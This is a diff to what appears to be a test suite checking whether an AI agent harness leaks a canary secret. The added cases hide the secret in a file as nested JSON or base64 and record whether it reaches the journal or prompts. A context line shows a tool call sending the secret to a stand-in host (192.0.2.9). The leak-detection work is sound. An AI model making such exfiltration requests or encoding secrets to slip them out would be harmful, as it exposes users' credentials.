@@ -97,6 +97,31 @@ export const secrets: Area = {
       tool: 'http_request',
       args: { url: `http://192.0.2.9/?k=${CANARY}` },
     }),
+    ...(
+      [
+        ['json', 'a file holds the secret as JSON text', JSON.stringify(JSON.stringify({ key: CANARY }))],
+        ['base64-user', 'a file holds `user:secret` in base64', Buffer.from(`deploy:${CANARY}`).toString('base64')],
+        [
+          'base64-middle',
+          'a file holds the secret in the middle of base64',
+          Buffer.from(`a ${CANARY} b`).toString('base64'),
+        ],
+      ] as const
+    ).map(([id, attack, text]) => ({
+      ...leaks(id, attack, { tool: 'file_read', args: { path: 'settings.txt' }, files: { 'settings.txt': text } }),
+      async happens() {
+        const { events, requests } = await propose({
+          tool: 'file_read',
+          args: { path: 'settings.txt' },
+          files: { 'settings.txt': text },
+          env: ENV,
+        })
+        const core = text.slice(Math.ceil(text.length / 2) - 6, Math.ceil(text.length / 2) + 6)
+        const journal = JSON.stringify(events).includes(core) ? 'in the journal' : 'not in the journal'
+        const prompt = requests.some((line) => line.includes(core)) ? 'in a prompt' : 'not in a prompt'
+        return `${journal}, ${prompt}`
+      },
+    })),
     leaks('task', 'the user pastes the secret into the task', {
       tool: 'file_list',
       args: { path: '.' },
